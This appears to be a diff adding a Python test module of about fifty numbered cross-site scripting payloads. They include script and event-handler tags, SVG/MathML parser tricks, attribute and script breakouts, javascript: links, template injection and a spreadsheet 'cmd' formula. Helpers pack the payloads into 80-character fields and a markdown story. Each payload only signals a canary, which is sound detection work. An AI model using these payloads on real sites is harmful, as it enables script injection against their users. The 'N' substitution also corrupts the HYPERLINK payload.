@@ -1,0 +1,99 @@
+"""Fifty texts that would run, or fetch something, wherever a page took them for more than text.
+
+Each calls `fired(N)`, which the watching browser provides, or fetches `/canary/N`, with its own number. Each fits into the shortest
+field of the site, the 80 characters of a place.
+"""
+
+from __future__ import annotations
+
+from typing import Final
+
+SHORTEST_FIELD: Final = 80
+CANARY: Final = "/canary/"
+
+_TEMPLATES: Final = (
+    # elements that run by themselves
+    "<script>fired(N)</script>",
+    "<ScRiPt/x>fired(N)</sCrIpT >",
+    "<<script>script>fired(N)<</script>/script>",
+    "<scr<script></script>ipt>fired(N)</scr<b></b>ipt>",
+    "<script src=//x/canary/N></script>",
+    "<script\x0c>fired(N)</script\x0c>",
+    # event handlers
+    "<img src=x onerror=fired(N)>",
+    "<img/src=x/onerror=fired(N)//",
+    "<IMG SRC=x OnErRoR='fired(N)'",
+    "<video><source onerror=fired(N)></video>",
+    "<details open ontoggle=fired(N)>x</details>",
+    "<input autofocus onfocus=fired(N)>",
+    "<iframe onload=fired(N)></iframe>",
+    "<object data=/canary/N></object>",
+    "<style onload=fired(N)></style>",
+    # SVG and MathML, and markup that changes when it is read twice
+    "<svg onload=fired(N)>",
+    "<svg/><svg><script>fired(N)</script></svg>",
+    "<svg><animate onbegin=fired(N) attributeName=x dur=1s>",
+    "<svg><a xlink:href=javascript:fired(N)><text>x</text></a></svg>",
+    "<math><mtext></p><style><img src=x onerror=fired(N)></style>",
+    "<noscript><p title='</noscript><img src=x onerror=fired(N)>'>",
+    "<b><textarea><img title='</textarea><img src=x onerror=fired(N)>'>",
+    "<template><img src=x></template><img src=x onerror=fired(N)>",
+    # out of an attribute, of a script, of a comment
+    '"><img src=x onerror=fired(N)>',
+    "'><img src=x onerror=fired(N)>",
+    '" autofocus onfocus="fired(N)" x="',
+    "' autofocus onfocus='fired(N)' x='",
+    "x autofocus onfocus=fired(N) ",
+    "</title></textarea><img src=x onerror=fired(N)>",
+    "</script><script>fired(N)</script>",
+    "</style><img src=x onerror=fired(N)>",
+    "--><img src=x onerror=fired(N)><!--",
+    "]]><img src=x onerror=fired(N)>",
+    '";fired(N);//',
+    "';fired(N);//",
+    '\\";fired(N);//',
+    "\u2028fired(N)//</script><script>fired(N)</script>",
+    # addresses
+    "[x](javascript:fired(N))",
+    '[x](JaVa\tScRiPt:fired(N) "javascript:fired(N)")',
+    "[x](data:text/html,<script>fired(N)</script>)",
+    "![x](/canary/N)",
+    "javascript:fired(N)//https://x.example/",
+    "<a href=&#106;avascript:fired(N)>x</a>",
+    "<meta http-equiv=refresh content='0;url=/canary/N'>",
+    "<iframe srcdoc='<script>parent.fired(N)</script>'></iframe>",
+    "<link rel=stylesheet href=/canary/N>",
+    "<style>@import'/canary/N';*{background:url(/canary/N)}</style>",
+    # letters that turn into others, and spreadsheets
+    "\u202e\ufeff<img\u00a0src=x onerror=fired(N)>\uff1cimg src=x onerror=fired(N)\uff1e",
+    "{{7*7}}${fired(N)}<%=fired(N)%>&lt;img src=x onerror=fired(N)&gt;",
+    "=HYPERLINK(\"http://x/canary/N\")+cmd|' /C calc'!A0<svg onload=fired(N)>",
+)
+
+PAYLOADS: Final = tuple(template.replace("N", str(number)) for number, template in enumerate(_TEMPLATES, start=100))
+"""The texts, each with its own number from 100 on."""
+
+
+def packed(limit: int) -> list[str]:
+    """Return all payloads in as few texts of up to `limit` characters as the longest first come to."""
+    texts: list[str] = []
+    for payload in sorted(PAYLOADS, key=len, reverse=True):
+        place = next((place for place, text in enumerate(texts) if len(text) + 1 + len(payload) <= limit), None)
+        if place is None:
+            texts.append(payload)
+        else:
+            texts[place] += f" {payload}"
+    return texts
+
+
+def marked_up(payload: str) -> str:
+    """Return a story with a payload in every place that the light editor knows."""
+    return "\n\n".join(
+        (
+            f"A pan of soup. {payload}",
+            f"## {payload}",
+            f"- {payload}\n- **{payload}** and *{payload}*",
+            f"> {payload}\n> -- {payload}",
+            f"[{payload}]({payload}) [soup]({payload}) [{payload}](https://example.org/{payload})",
+        )
+    )
